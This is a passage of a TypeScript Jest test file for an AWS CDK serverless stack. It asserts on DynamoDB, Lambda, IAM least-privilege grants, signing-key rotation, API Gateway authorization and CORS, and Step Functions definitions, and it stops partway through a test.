import { App, Names, NestedStack, Validations, type CfnElement } from 'aws-cdk-lib';
import * as sqs from 'aws-cdk-lib/aws-sqs';
import { Stack } from 'aws-cdk-lib';
import * as apigw from 'aws-cdk-lib/aws-apigateway';
import * as sns from 'aws-cdk-lib/aws-sns';
import * as sfn from 'aws-cdk-lib/aws-stepfunctions';
import { OperationsMonitoring } from '../../lib/operations-monitoring';
import { Annotations, Capture, Match, Template } from 'aws-cdk-lib/assertions';
import type { AwsSolutionsChecks } from 'cdk-nag';
import type { IConstruct } from 'constructs';
import cdkJson from '../../cdk.json';
import { GATEWAY_RESPONSES, METHOD_NOT_ALLOWED, gatewayErrorBody } from '../../lambdas/api/gateway-responses';
import { ROUTES, WIDGET_PATH_PREFIX } from '../../lambdas/api/routes';
import { MESSAGING_TABLE_DESIGN } from '../../lambdas/repositories/messaging-table-design';

/** Routes whose functions are in this (main) stack; the messaging stack's are tested in messaging-stack.test.ts. */
const MAIN_ROUTES = ROUTES.filter((route) => route.stack === undefined);
import { SCHEDULED_JOBS } from '../../lambdas/scheduled/jobs';
import { TABLE_DESIGN } from '../../lambdas/repositories/table-design';
import './handler-env';
import { METRICS } from '../../lambdas/core/metric-names';
import { MESSAGING_STEPS } from '../../statemachines/workflows';
import { MESSAGING_JOBS } from '../../lambdas/scheduled/jobs';
import { FLEET_UPDATE, PROVISION_CUSTOMER, RESIZE_CUSTOMER, RESTORE_CUSTOMER, WORKFLOWS, workflowsIn, type StepAccess, type WorkflowDefinition, type WorkflowStep } from '../../statemachines/workflows';
import { LIFECYCLE_WORKFLOWS, type LifecycleWorkflowId } from '../../lib/lifecycle-workflows';
import { applyNagChecks } from '../../lib/nag';
import { readDefinition, taskTimeouts } from '../../lib/workflow-definition';
import { StackProStack } from '../../lib/stackpro-stack';
import { CUSTOMER_CONTAINERS, PINNED_IMAGE } from '../../lib/customer-containers';
import { APP_VERSIONS } from '../../lambdas/core/app-versions';
import { CUSTOMER_SECRETS } from '../../lambdas/core/customer-secrets';
import type { StackProFunction } from '../../lib/stackpro-function';
import { attachedPolicies, statementsOfRole as statementsOfRoleIn, type Statement } from './iam-policies';

// One synth for the whole file (a few seconds); bundling is skipped, so no esbuild run and no Docker.
let app: App;
let stack: StackProStack;
let template: Template;
/** The resize workflow's nested stack (lib/resize-workflow-stack.ts). */
let nestedTemplate: Template;
let messagingTemplate: Template;
let nagChecks: AwsSolutionsChecks;
const origin = cdkJson.context['stackpro:frontendOrigin'];

beforeAll(() => {
  app = new App({ context: { ...cdkJson.context, 'aws:cdk:bundling-stacks': [] } });
  stack = new StackProStack(app, 'StackPro');
  nagChecks = applyNagChecks(app);
  // Synthesizes the app, which also runs cdk-nag: an unacknowledged finding throws here with the report.
  template = Template.fromStack(stack);
  nestedTemplate = Template.fromStack(stack.resize);
  messagingTemplate = Template.fromStack(stack.messaging);
});

/** The workflows whose state machine is in the main template. */
const MAIN_WORKFLOWS = workflowsIn('main');
/**
 * The workflows the shared checks below read: the main template's and the resize's nested one. RestoreWorkflow
 * and FleetUpdate have blocks of their own that read their nested templates.
 */
const CHECKED_WORKFLOWS = [...MAIN_WORKFLOWS, ...workflowsIn(RESIZE_CUSTOMER.deployedIn)];

function templateOf(construct: IConstruct): Template {
  if (Stack.of(construct) === stack.messaging) return messagingTemplate;
  return Stack.of(construct) === stack.resize ? nestedTemplate : template;
}

type Resource = { Type: string; Properties: Record<string, unknown> };

function logicalId(construct: IConstruct): string {
  // Resolved rather than getLogicalId, which ignores overrideLogicalId (the alarm topic keeps its old id).
  return Stack.of(construct).resolve((construct.node.defaultChild as CfnElement).logicalId) as string;
}

function resourceOf(construct: IConstruct): Resource {
  return templateOf(construct).toJSON().Resources[logicalId(construct)] as Resource;
}

function routeFunction(routeId: string) {
  const fn = stack.accountApi.routeFunctions[routeId];
  if (!fn) throw new Error(`no function for route ${routeId}`);
  return fn;
}

/** Every IAM statement granted to the role with this logical id (inline or through AWS::IAM::Policy). */
function statementsOfRole(roleLogicalId: string): Statement[] {
  return [...statementsOfRoleIn(template, roleLogicalId), ...statementsOfRoleIn(nestedTemplate, roleLogicalId), ...statementsOfRoleIn(messagingTemplate, roleLogicalId)];
}

/** The function of a workflow step, by its step id (construct id). */
function stepFunctionOf(stepId: string): StackProFunction {
  for (const workflow of CHECKED_WORKFLOWS) {
    const fn = Object.values(stepFunctionsOf(workflow)).find((candidate) => candidate.node.id === stepId);
    if (fn) return fn;
  }
  throw new Error(`no function for step ${stepId}`);
}

/** The role of RecoverStoppedExecution (lib/stopped-executions.ts). */
function recoveryRole(): string {
  return logicalId(stack.stoppedExecutionRecovery.function.role!);
}

function actionsOf(fn: { role?: IConstruct }): string[] {
  if (!fn.role) throw new Error('function has no role');
  return statementsOfRole(logicalId(fn.role)).flatMap((statement) => [statement.Action].flat());
}

/** JSON text of a template fragment, for matching ARNs built with Fn::Join. */
function text(value: unknown): string {
  return JSON.stringify(value);
}

function environmentOf(construct: IConstruct): Record<string, unknown> {
  const properties = resourceOf(construct).Properties as { Environment?: { Variables?: Record<string, unknown> } };
  return properties.Environment?.Variables ?? {};
}

/** The cdk-nag acknowledgements made on a construct, by rule id, with their reasons. */
function acknowledgementsOf(construct: IConstruct): Record<string, string> {
  return Object.fromEntries(
    construct.node.metadata
      .filter((entry) => entry.type === Validations.ACKNOWLEDGED_RULES_METADATA_KEY)
      .flatMap((entry) => Object.entries(entry.data as Record<string, string>))
      .map(([id, reason]) => [id.replace(/^Annotation::/, ''), reason]),
  );
}

/** Every distinct step (by id) across all workflows: one function each, however many workflows invoke it. */
const DISTINCT_STEPS: readonly WorkflowStep[] = [
  ...new Map(CHECKED_WORKFLOWS.flatMap((workflow) => Object.values(workflow.steps)).map((step) => [step.id, step])).values(),
];

/** A workflow's step functions (substitution key to function), wherever the stack built them. */
function stepFunctionsOf(workflow: WorkflowDefinition): Readonly<Record<string, StackProFunction>> {
  if (workflow.id === PROVISION_CUSTOMER.id) return stack.provisioning.stepFunctions;
  if (workflow.id === RESIZE_CUSTOMER.id) return stack.resize.stepFunctions as Readonly<Record<string, StackProFunction>>;
  return stack.lifecycle.stepFunctions[workflow.id as LifecycleWorkflowId];
}

function stateMachineOf(workflow: WorkflowDefinition) {
  if (workflow.id === PROVISION_CUSTOMER.id) return stack.provisioning.stateMachine;
  if (workflow.id === RESIZE_CUSTOMER.id) return stack.resize.stateMachine;
  return stack.lifecycle.stateMachines[workflow.id as LifecycleWorkflowId];
}

/**
 * A function's ARN as a template sees it: `Fn::GetAtt` in its own stack; in the nested stack, for a
 * main-stack function (the reused Point subdomain), the parameter CDK passes it in (named after it).
 */
function functionArnIn(owner: IConstruct, fn: IConstruct): unknown {
  // A messaging channel step (lib/messaging-operations.ts): the messaging nested stack's output, or a parameter carrying it.
  if (Stack.of(fn) === stack.messaging && Stack.of(owner) === stack) return { 'Fn::GetAtt': [expect.stringMatching(/^MessagingNestedStack/), expect.stringMatching(/^Outputs\./)] };
  if (Stack.of(fn) === stack.messaging) return { Ref: expect.stringMatching(/^referenceto/) };
  return Stack.of(owner) === Stack.of(fn) ? { 'Fn::GetAtt': [logicalId(fn), 'Arn'] } : { Ref: `referenceto${importedName(fn)}Arn` };
}

/** The name CDK gives the nested stack's parameter for a main-stack resource (`referenceto<this><attribute>`). */
function importedName(construct: IConstruct): string {
  return Names.nodeUniqueId((construct.node.defaultChild as CfnElement).node);
}

/** The resize state machine's ARN as the main template sees it: the nested stack's output. */
function isResizeArn(value: unknown): boolean {
  return text(value).includes(stack.resolve(stack.resize.nestedStackResource!.logicalId) as string) && text(value).includes('StateMachine');
}

/** Distinct steps only the resize runs: their functions are in the nested stack. */
const RESIZE_ONLY_STEPS: readonly WorkflowStep[] = Object.values(RESIZE_CUSTOMER.steps).filter(
  (step) => !MAIN_WORKFLOWS.some((workflow) => Object.values(workflow.steps).some((other) => other.id === step.id)),
);

/** Statements of every role in the template that allow `action`, with the role's logical id. */
function grantsOf(action: string): { role: string; statement: Statement }[] {
  return [...attachedPolicies(template), ...attachedPolicies(nestedTemplate)].flatMap((policy) =>
    policy.statements
      .filter((statement) => statement.Effect === 'Allow' && [statement.Action].flat().includes(action))
      .map((statement) => ({ role: policy.role, statement })),
  );
}

describe('CustomerTable', () => {
  it('is a pay-per-request single table with pk/sk, TTL, PITR, deletion protection and encryption', () => {
    template.resourceCountIs('AWS::DynamoDB::Table', 1);
    template.hasResourceProperties('AWS::DynamoDB::Table', {
      KeySchema: [
        { AttributeName: 'pk', KeyType: 'HASH' },
        { AttributeName: 'sk', KeyType: 'RANGE' },
      ],
      AttributeDefinitions: Match.arrayWith([
        { AttributeName: 'pk', AttributeType: 'S' },
        { AttributeName: 'sk', AttributeType: 'S' },
      ]),
      BillingMode: 'PAY_PER_REQUEST',
      TimeToLiveSpecification: { AttributeName: 'ttl', Enabled: true },
      PointInTimeRecoverySpecification: { PointInTimeRecoveryEnabled: true },
      DeletionProtectionEnabled: true,
      SSESpecification: { SSEEnabled: true },
    });
  });

  it('survives stack deletion and replacement', () => {
    template.hasResource('AWS::DynamoDB::Table', { DeletionPolicy: 'Retain', UpdateReplacePolicy: 'Retain' });
  });
});

describe('Lambda functions', () => {
  it('has one function per route, plus the authorizer, one per distinct workflow step id, one per scheduled job, the signing-key generator and rotator', () => {
    expect(Object.keys(stack.accountApi.routeFunctions).sort()).toEqual(ROUTES.map((route) => route.id).sort());
    // + the key generator and rotator (the billing sweeps are scheduled jobs), + RecoverStoppedExecution
    // The messaging channel steps are in the messaging nested stack (lib/messaging-operations.ts).
    const ours = 1 + MAIN_ROUTES.length + DISTINCT_STEPS.length - RESIZE_ONLY_STEPS.length - MESSAGING_STEPS.length + SCHEDULED_JOBS.length + 2 + 1;
    // + the custom resource provider framework's own function
    template.resourceCountIs('AWS::Lambda::Function', ours + 1);
    // The resize's own steps are in its nested stack; Point subdomain is provisioning's.
    nestedTemplate.resourceCountIs('AWS::Lambda::Function', RESIZE_ONLY_STEPS.length);
  });

  it('carries every function\'s grants in its role (no separate AWS::IAM::Policy), each inline policy well within IAM\'s 10,240 characters', () => {
    // Ours: every function but the custom resource provider framework's (CDK's own construct).
    const ourRoles = new Set(
      Object.entries(template.findResources('AWS::Lambda::Function'))
        .filter(([id]) => !id.startsWith('SigningKeyProviderframework'))
        .map(([, fn]) => (fn as { Properties: { Role: { 'Fn::GetAtt': [string] } } }).Properties.Role['Fn::GetAtt'][0]),
    );
    expect(ourRoles.size).toBeGreaterThan(50);
    const separate = Object.values(template.findResources('AWS::IAM::Policy')).filter((policy) =>
      (policy as { Properties: { Roles: { Ref: string }[] } }).Properties.Roles.some((role) => ourRoles.has(role.Ref)),
    );
    expect(separate).toEqual([]);
    // The template form (with CloudFormation functions) is longer than the policy IAM stores.
    const longest = Math.max(...attachedPolicies(template).map((policy) => JSON.stringify(policy.statements).length));
    expect(longest).toBeLessThan(8_000);
  });

  it('stays within CloudFormation\'s 500 resources per stack, with room for a few more routes', () => {
    expect(Object.keys(template.toJSON().Resources).length).toBeLessThanOrEqual(490);
  });

  it.each(MAIN_ROUTES.map((route) => [route.id]))('%s runs on Node.js 24, arm64, traced, logging to its own group', (routeId) => {
    const fn = routeFunction(routeId);
    const properties = resourceOf(fn).Properties;
    expect(properties).toMatchObject({
      Runtime: 'nodejs24.x',
      Architectures: ['arm64'],
      Handler: 'index.handler',
      TracingConfig: { Mode: 'Active' },
      Timeout: 10,
      LoggingConfig: { LogGroup: { Ref: expect.any(String) } },
    });
    const logGroupId = (properties.LoggingConfig as { LogGroup: { Ref: string } }).LogGroup.Ref;
    expect(template.toJSON().Resources[logGroupId]).toMatchObject({
      Type: 'AWS::Logs::LogGroup',
      Properties: { RetentionInDays: 30 },
    });
  });

  it('uses the latest Node.js runtime for every function, including CDK-provided ones', () => {
    const functions = Object.values(template.findResources('AWS::Lambda::Function')) as Resource[];
    expect(functions.map((fn) => fn.Properties.Runtime)).toEqual(functions.map(() => 'nodejs24.x'));
  });

  it('gives the password-hashing routes more memory than the rest', () => {
    for (const route of MAIN_ROUTES) {
      const memory = resourceOf(routeFunction(route.id)).Properties.MemorySize as number;
      if (route.id === 'SignUp' || route.id === 'LogIn' || route.id === 'ConfirmPasswordReset') expect(memory).toBeGreaterThanOrEqual(512);
      else expect(memory).toBe(256);
    }
  });

  it.each(MAIN_ROUTES.map((route) => [route.id, route]))(
    '%s gets exactly the environment its access needs',
    (_id, route) => {
      const environment = environmentOf(routeFunction(route.id));
      const usesTable = route.access.includes('table:read') || route.access.includes('table:write');
      expect(environment).toMatchObject({
        POWERTOOLS_SERVICE_NAME: 'stackpro',
        POWERTOOLS_LOG_LEVEL: 'INFO',
        CUSTOMER_DOMAIN: cdkJson.context['stackpro:customerDomain'],
        FRONTEND_ORIGIN: origin,
      });
      expect('TABLE_NAME' in environment).toBe(usesTable);
      expect('SIGNING_KEY_SECRET_ID' in environment).toBe(route.access.includes('signing-key:read'));
      // workflows:read builds execution ARNs from every workflow's ARN.
      const readsWorkflows = route.access.includes('workflows:read');
      expect('PROVISIONING_STATE_MACHINE_ARN' in environment).toBe(route.access.includes('provisioning:start') || readsWorkflows);
      expect('STRIPE_SECRET_ID' in environment).toBe(route.access.includes('stripe'));
      expect('SENDER_ADDRESS' in environment).toBe(route.access.includes('ses:send'));
      const lifecycleArns = route.access.includes('lifecycle:start') || readsWorkflows;
      expect('SUSPEND_STATE_MACHINE_ARN' in environment).toBe(lifecycleArns || route.access.includes('lifecycle:suspend'));
      expect('RESUME_STATE_MACHINE_ARN' in environment).toBe(lifecycleArns || route.access.includes('lifecycle:resume'));
      expect('DEPROVISION_STATE_MACHINE_ARN' in environment).toBe(lifecycleArns);
      expect('BILLING_RETENTION_DAYS' in environment).toBe(route.access.includes('lifecycle:start'));
      // Only the plan change (the customer's and the operators') and its confirmation by the webhook read the plan prices; STRIPE_API_BASE is for the local sandbox only.
      expect('STRIPE_PRICE_IDS' in environment).toBe(['ChangePlan', 'AdminChangePlan', 'ReceiveStripeWebhook'].includes(route.id));
      expect(environment).not.toHaveProperty('STRIPE_API_BASE');
      expect(environment).not.toHaveProperty('JWT_PUBLIC_JWK');
      expect(environment).not.toHaveProperty('JWT_PUBLIC_KEYS_SECRET_ID');
    },
  );

  it('points the authorizer at the public keys secret, and at nothing secret', () => {
    const environment = environmentOf(stack.accountApi.authorizerFunction);
    expect(environment.JWT_PUBLIC_KEYS_SECRET_ID).toEqual({ Ref: logicalId(stack.signingKey.publicKeys) });
    expect(environment).not.toHaveProperty('JWT_PUBLIC_JWK');
    expect(environment).not.toHaveProperty('SIGNING_KEY_SECRET_ID');
    expect(environment).not.toHaveProperty('TABLE_NAME');
  });

  it('never puts the signing key or a Stripe key itself in any environment', () => {
    const functions = Object.values(template.findResources('AWS::Lambda::Function')) as Resource[];
    for (const fn of functions) {
      const text = JSON.stringify(fn.Properties.Environment ?? {});
      expect(text).not.toMatch(/privateJwk|SecretString|resolve:secretsmanager|sk_(live|test)_|whsec_|rk_(live|test)_/);
    }
  });
});

describe('SigningKey', () => {
  const rotator = () => stack.signingKey.rotationFunction;
  const generator = () => stack.signingKey.node.findChild('CreateSigningKey') as unknown as { role: IConstruct };

  it('fills its secrets through the custom resource: the private key and the public keys', () => {
    template.resourceCountIs('AWS::SecretsManager::Secret', 3);
    template.hasResourceProperties('Custom::StackProSigningKey', {
      ServiceToken: { 'Fn::GetAtt': [Match.stringLikeRegexp('^SigningKeyProviderframeworkonEvent'), 'Arn'] },
      SecretId: { Ref: logicalId(stack.signingKey.secret) },
      PublicKeysSecretId: { Ref: logicalId(stack.signingKey.publicKeys) },
    });
  });

  it('rotates the private key with our function on the cdk.json schedule, after the first key exists', () => {
    const schedules = template.findResources('AWS::SecretsManager::RotationSchedule');
    expect(Object.values(schedules)).toHaveLength(1);
    const [schedule] = Object.values(schedules) as (Resource & { DependsOn: string[] })[];
    expect(schedule.Properties).toEqual({
      SecretId: { Ref: logicalId(stack.signingKey.secret) },
      RotationLambdaARN: { 'Fn::GetAtt': [logicalId(rotator()), 'Arn'] },
      RotationRules: { ScheduleExpression: `rate(${cdkJson.context['stackpro:signingKeyRotationDays']} days)` },
      RotateImmediatelyOnUpdate: false,
    });
    expect(schedule.DependsOn).toEqual(expect.arrayContaining([expect.stringMatching(/^SigningKeyKeyGenerator/)]));
    expect(environmentOf(rotator()).JWT_PUBLIC_KEYS_SECRET_ID).toEqual({ Ref: logicalId(stack.signingKey.publicKeys) });
  });

  it('lets only Secrets Manager invoke the rotation function, and only for this secret', () => {
    template.hasResourceProperties('AWS::Lambda::Permission', {
      FunctionName: { 'Fn::GetAtt': [logicalId(rotator()), 'Arn'] },
      Principal: 'secretsmanager.amazonaws.com',
      SourceArn: { Ref: logicalId(stack.signingKey.secret) },
    });
  });

  it('gives the rotation function exactly the rotation actions, on the two signing key secrets only', () => {
    const statements = statementsOfRole(logicalId(rotator().role!)).filter((statement) => text(statement.Action).includes('secretsmanager:'));
    expect(statements.map((statement) => ({ Action: [statement.Action].flat().sort(), Resource: statement.Resource }))).toEqual(
      expect.arrayContaining([
        {
          Action: ['secretsmanager:DescribeSecret', 'secretsmanager:GetSecretValue', 'secretsmanager:PutSecretValue', 'secretsmanager:UpdateSecretVersionStage'],
          Resource: { Ref: logicalId(stack.signingKey.secret) },
        },
        { Action: ['secretsmanager:GetSecretValue', 'secretsmanager:PutSecretValue'], Resource: { Ref: logicalId(stack.signingKey.publicKeys) } },
      ]),
    );
    expect(statements).toHaveLength(2);
    expect(actionsOf(rotator())).not.toContain('secretsmanager:GetRandomPassword');
  });

  it('acknowledges no rotation (SMG4) on the private key; only on the public keys, with its reason', () => {
    expect(acknowledgementsOf(stack.signingKey.secret)).not.toHaveProperty('AwsSolutions-SMG4');
    expect(acknowledgementsOf(stack.signingKey.publicKeys)['AwsSolutions-SMG4']).toMatch(/Public keys only/);
  });

  it('lets only the authorizer, the generator and the rotator read the public keys; only the latter two write them', () => {
    const publicKeys = text({ Ref: logicalId(stack.signingKey.publicKeys) });
    const rolesAllowed = (action: string) =>
      grantsOf(action)
        .filter(({ statement }) => text(statement.Resource).includes(publicKeys))
        .map(({ role }) => role)
        .sort();
    const authorizer = logicalId(stack.accountApi.authorizerFunction.role!);
    expect(rolesAllowed('secretsmanager:GetSecretValue')).toEqual([authorizer, logicalId(generator().role), logicalId(rotator().role!)].sort());
    expect(rolesAllowed('secretsmanager:PutSecretValue')).toEqual([logicalId(generator().role), logicalId(rotator().role!)].sort());
  });

  it('outputs the signing key secret ARN for the rotate-signing-key admin command', () => {
    template.hasOutput('SigningKeySecretArn', { Value: { Ref: logicalId(stack.signingKey.secret) } });
  });

  it('lets operators rotate (RotateSecret and the invoke it needs) through one managed policy that reads nothing', () => {
    const policy = resourceOf(stack.signingKey.rotationPolicy).Properties as { PolicyDocument: { Statement: Statement[] } };
    expect(policy.PolicyDocument.Statement.map((statement) => [statement.Action, statement.Resource])).toEqual([
      [['secretsmanager:DescribeSecret', 'secretsmanager:RotateSecret'], { Ref: logicalId(stack.signingKey.secret) }],
      ['lambda:InvokeFunction', { 'Fn::GetAtt': [logicalId(rotator()), 'Arn'] }],
    ]);
    template.hasOutput('SigningKeyRotationPolicyArn', { Value: { Ref: logicalId(stack.signingKey.rotationPolicy) } });
  });

  it('lets the generator write the secret', () => {
    const generator = stack.signingKey.node.findChild('CreateSigningKey') as unknown as { role?: IConstruct };
    expect(actionsOf(generator)).toEqual(expect.arrayContaining(['secretsmanager:PutSecretValue']));
  });
});

describe('AccountApi', () => {
  // Routes of a nested stack (RouteDefinition.stack) have their methods in that stack's template.
  const templateOfRoute = (route: (typeof ROUTES)[number]) => (route.stack === 'messaging' ? Template.fromStack(stack.messaging) : template);
  const methodsOfAllStacks = (properties: object) =>
    [template, Template.fromStack(stack.messaging)].flatMap((owner) => Object.values(owner.findResources('AWS::ApiGateway::Method', { Properties: properties })) as Resource[]);

  function methodOf(route: (typeof ROUTES)[number]) {
    const methods = templateOfRoute(route).findResources('AWS::ApiGateway::Method', {
      Properties: { HttpMethod: route.method, OperationName: route.id },
    });
    const entries = Object.values(methods) as Resource[];
    expect(entries).toHaveLength(1);
    return entries[0]!.Properties;
  }

  it.each(MAIN_ROUTES.map((route) => [route.id, route]))('%s is a Lambda proxy method on its path', (_id, route) => {
    const method = methodOf(route);
    expect(method.Integration).toMatchObject({
      Type: 'AWS_PROXY',
      IntegrationHttpMethod: 'POST',
      Uri: {
        'Fn::Join': ['', expect.arrayContaining([{ 'Fn::GetAtt': [logicalId(routeFunction(route.id)), 'Arn'] }])],
      },
    });
  });

  it('attaches the token authorizer to exactly the customer routes', () => {
    template.hasResourceProperties('AWS::ApiGateway::Authorizer', {
      Type: 'TOKEN',
      IdentitySource: 'method.request.header.Authorization',
      AuthorizerResultTtlInSeconds: 0,
      AuthorizerUri: Match.objectLike({
        'Fn::Join': ['', Match.arrayWith([{ 'Fn::GetAtt': [logicalId(stack.accountApi.authorizerFunction), 'Arn'] }])],
      }),
    });
    template.resourceCountIs('AWS::ApiGateway::Authorizer', 1);
    const authorizer = stack.accountApi.node.findChild('CustomerAuthorizer');

    for (const route of ROUTES) {
      const method = methodOf(route);
      if (route.auth === 'customer') {
        expect(method).toMatchObject({
          AuthorizationType: 'CUSTOM',
          // A nested stack's method gets the same authorizer's id as a parameter of that stack.
          AuthorizerId: { Ref: route.stack ? `referenceto${importedName(authorizer)}Ref` : logicalId(authorizer) },
          RequestParameters: { 'method.request.header.Authorization': true },
          RequestValidatorId: { Ref: expect.any(String) },
        });
      } else {
        expect(method.AuthorizationType).toBe(route.auth === 'iam' ? 'AWS_IAM' : 'NONE');
        expect(method.AuthorizerId).toBeUndefined();
      }
    }
    const customMethods = template.findResources('AWS::ApiGateway::Method', {
      Properties: { AuthorizationType: 'CUSTOM', AuthorizerId: { Ref: logicalId(authorizer) } },
    });
    expect(Object.keys(customMethods)).toHaveLength(MAIN_ROUTES.filter((route) => route.auth === 'customer').length);
  });

  it('validates request parameters (bodies are validated by the handlers)', () => {
    template.hasResourceProperties('AWS::ApiGateway::RequestValidator', {
      ValidateRequestParameters: true,
      ValidateRequestBody: false,
    });
  });

  it('answers 405 in our error shape for other methods on every route resource', () => {
    const paths = new Set(ROUTES.map((route) => route.path));
    const anyMethods = methodsOfAllStacks({ HttpMethod: 'ANY' });
    expect(anyMethods).toHaveLength(paths.size);

    const anyResourceIds = anyMethods.map((method) => JSON.stringify(method.Properties.ResourceId));
    for (const route of ROUTES) {
      expect(anyResourceIds).toContain(JSON.stringify(methodOf(route).ResourceId));
    }
    for (const method of anyMethods) {
      expect(method.Properties).toMatchObject({
        AuthorizationType: 'NONE',
        Integration: {
          Type: 'MOCK',
          IntegrationResponses: [
            {
              StatusCode: '405',
              ResponseTemplates: { 'application/json': gatewayErrorBody(METHOD_NOT_ALLOWED) },
              ResponseParameters: {
                'method.response.header.Content-Type': "'application/json'",
                'method.response.header.Access-Control-Allow-Origin': `'${origin}'`,
              },
            },
          ],
        },
        MethodResponses: [expect.objectContaining({ StatusCode: '405' })],
      });
    }
  });

  it('answers CORS preflight for the frontend origin on every route resource', () => {
    const preflights = methodsOfAllStacks({ HttpMethod: 'OPTIONS' });
    expect(preflights).toHaveLength(new Set(ROUTES.map((route) => route.path)).size);
    // The widget's paths (their handlers answer CORS to each business's allowed origins) allow any origin; no other path does.
    const widgetPreflights = preflights.filter((preflight) => JSON.stringify(preflight.Properties.Integration).includes(`"method.response.header.Access-Control-Allow-Origin":"'*'"`));
    expect(widgetPreflights).toHaveLength(new Set(ROUTES.filter((route) => route.path.startsWith(WIDGET_PATH_PREFIX)).map((route) => route.path)).size);
    for (const preflight of preflights.filter((candidate) => !widgetPreflights.includes(candidate))) {
      expect(JSON.stringify(preflight.Properties.Integration)).toContain(
        `"method.response.header.Access-Control-Allow-Origin":"'${origin}'"`,
      );
    }
  });

  it.each(Object.entries(GATEWAY_RESPONSES))('installs the %s gateway response in our JSON error shape', (type, response) => {
    template.hasResourceProperties('AWS::ApiGateway::GatewayResponse', {
      ResponseType: type,
      StatusCode: String(response.statusCode),
      ResponseTemplates: { 'application/json': gatewayErrorBody(response) },
      ResponseParameters: {
        'gatewayresponse.header.Content-Type': "'application/json'",
        'gatewayresponse.header.Access-Control-Allow-Origin': `'${origin}'`,
        'gatewayresponse.header.Vary': "'Origin'",
      },
    });
  });

  it('logs access as JSON, throttles, traces and logs errors without bodies at the stage', () => {
    const format = new Capture();
    template.hasResourceProperties('AWS::ApiGateway::Stage', {
      AccessLogSetting: {
        DestinationArn: { 'Fn::GetAtt': [Match.stringLikeRegexp('^AccountApiAccessLogs'), 'Arn'] },
        Format: format,
      },
      TracingEnabled: true,
      MethodSettings: [
        Match.objectLike({
          HttpMethod: '*',
          ResourcePath: '/*',
          LoggingLevel: 'ERROR',
          DataTraceEnabled: false,
          ThrottlingRateLimit: 50,
          ThrottlingBurstLimit: 100,
        }),
      ],
    });
    const fields = JSON.parse(format.asString()) as Record<string, string>;
    expect(fields).toMatchObject({ requestId: '$context.requestId', status: '$context.status' });
  });

  it('is guarded by the client rate-limit web ACL on its stage (cdk-nag APIG3 satisfied, not acknowledged)', () => {
    template.hasResourceProperties('AWS::WAFv2::WebACLAssociation', {
      ResourceArn: Match.objectLike({ 'Fn::Join': Match.arrayWith([Match.arrayWith([Match.stringLikeRegexp('/stages/')])]) }),
      WebACLArn: { 'Fn::GetAtt': [stack.getLogicalId(stack.clientRateLimits.webAcl), 'Arn'] },
    });
    expect(acknowledgementsOf(stack.accountApi.api)).not.toHaveProperty('AwsSolutions-APIG3');
  });

  it('outputs the API URL and the Stripe webhook URL to register in Stripe', () => {
    template.hasOutput('ApiUrl', {});
    const url = template.toJSON().Outputs.StripeWebhookUrl.Value as { 'Fn::Join': [string, unknown[]] };
    expect(text(url)).toMatch(/"\/stripe\/webhooks"\]\]\}$/);
    expect(text(url)).toContain(text({ Ref: logicalId(stack.accountApi.api) }));
  });
});

describe.each(CHECKED_WORKFLOWS.map((workflow) => [workflow.id, workflow] as const))('%s state machine', (_id, workflow) => {
  function machine(): Resource {
    return resourceOf(stateMachineOf(workflow));
  }

  it('is a Standard state machine from its ASL file, every ${...} placeholder a step function ARN', () => {
    const properties = machine().Properties;
    expect(properties.StateMachineType).toBe('STANDARD');
    const text = properties.DefinitionString as string;
    expect(text).toBe(readDefinition(workflow));
    expect(JSON.parse(text)).toHaveProperty('TimeoutSeconds', expect.any(Number));
    const placeholders = [...text.matchAll(/\$\{([^}]+)\}/g)].map((match) => match[1]!);
    expect(placeholders.length).toBeGreaterThan(0);
    const values = properties.DefinitionSubstitutions as Record<string, unknown>;
    expect(Object.keys(values).sort()).toEqual([...new Set(placeholders)].sort());
    for (const [key, step] of Object.entries(workflow.steps)) {
      const fn = stepFunctionsOf(workflow)[key];
      expect(fn?.node.id).toBe(step.id);
      expect(values[key]).toEqual(functionArnIn(stateMachineOf(workflow), fn!));
    }
  });

  it('substitutes every ASL placeholder (no ${ left once CloudFormation applies the substitutions)', () => {
    const properties = machine().Properties;
    const substitutions = properties.DefinitionSubstitutions as Record<string, unknown>;
    const substituted = (properties.DefinitionString as string).replace(/\$\{([^}]+)\}/g, (placeholder, key: string) =>
      key in substitutions ? 'arn' : placeholder,
    );
    expect(substituted).not.toContain('${');
  });

  it('logs every event without execution data (PII) and traces with X-Ray', () => {
    expect(machine().Properties).toMatchObject({
      LoggingConfiguration: {
        Level: 'ALL',
        IncludeExecutionData: false,
        Destinations: [{ CloudWatchLogsLogGroup: { LogGroupArn: { 'Fn::GetAtt': [expect.any(String), 'Arn'] } } }],
      },
      TracingConfiguration: { Enabled: true },
    });
  });

  it('may invoke exactly the functions its ASL references', () => {
    const statements = statementsOfRole(logicalId(stateMachineOf(workflow).role));
    const invoke = statements.filter((statement) => [statement.Action].flat().includes('lambda:InvokeFunction'));
    const resources = invoke.flatMap((statement) => [statement.Resource].flat());
    const functions = [...new Set(Object.values(stepFunctionsOf(workflow)))];
    expect(resources).toHaveLength(functions.length);
    expect(resources).toEqual(expect.arrayContaining(functions.map((fn) => functionArnIn(stateMachineOf(workflow), fn))));
    expect(statements.flatMap((statement) => [statement.Action].flat()).filter((action) => /^(states|secretsmanager|ec2|dynamodb):/.test(action))).toEqual([]);
  });

  it.each(Object.entries(workflow.steps).map(([key, step]) => [step.id, key] as const))(
    '%s gives up before its Task does (Lambda timeout < Task TimeoutSeconds)',
    (_stepId, key) => {
      const taskTimeout = taskTimeouts(workflow).get(key);
      expect(taskTimeout).toBeDefined();
      expect(resourceOf(stepFunctionsOf(workflow)[key]!).Properties.Timeout).toBeLessThan(taskTimeout!);
    },
  );
});

describe('Workflow state machines', () => {
  it('are one per workflow: provisioning and the three lifecycle workflows here, the resize in its nested stack', () => {
    template.resourceCountIs('AWS::StepFunctions::StateMachine', MAIN_WORKFLOWS.length);
    nestedTemplate.resourceCountIs('AWS::StepFunctions::StateMachine', 1);
    expect(Object.keys(stack.lifecycle.stateMachines).sort()).toEqual(['DeprovisionCustomer', 'ResumeCustomer', 'SuspendCustomer']);
  });

  it('share one function per step id across workflows (lifecycle reuses provisioning DNS, identity and terminate steps)', () => {
    const byId = new Map<string, Set<StackProFunction>>();
    for (const workflow of CHECKED_WORKFLOWS) {
      for (const [key, step] of Object.entries(workflow.steps)) {
        byId.set(step.id, (byId.get(step.id) ?? new Set()).add(stepFunctionsOf(workflow)[key]!));
      }
    }
    for (const [stepId, functions] of byId) expect(`${stepId}: ${functions.size}`).toBe(`${stepId}: 1`);
    expect(stack.lifecycle.stepFunctions.ResumeCustomer.PointSubdomainFunctionArn).toBe(stack.provisioning.stepFunctions.PointSubdomainFunctionArn);
